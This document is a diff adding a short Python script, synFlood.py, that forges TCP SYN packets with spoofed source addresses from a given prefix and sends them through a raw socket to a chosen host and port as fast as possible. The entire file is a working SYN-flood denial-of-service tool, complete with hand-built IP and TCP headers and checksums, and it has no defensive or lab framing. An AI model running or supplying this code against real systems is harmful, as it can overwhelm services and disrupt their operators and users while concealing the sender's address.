@@ -1,0 +1,27 @@
+"""Sends SYNs of ever new clients, as fast as it can: synFlood.py SOURCE_PREFIX DESTINATION PORT COUNT, prefix as in 10.2."""
+import socket
+import struct
+import sys
+
+prefix, destination, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+target = socket.inet_aton(destination)
+
+
+def checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+for i in range(count):
+    source = socket.inet_aton(f"{prefix}.{i >> 8 & 255}.{i & 255}")
+    tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, port, i, 0, 5 << 4, 2, 65535, 0, 0)
+    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0, 64, 6, 0, source, target)
+    try:
+        raw.sendto(ip + tcp, (destination, 0))
+    except OSError:
+        pass
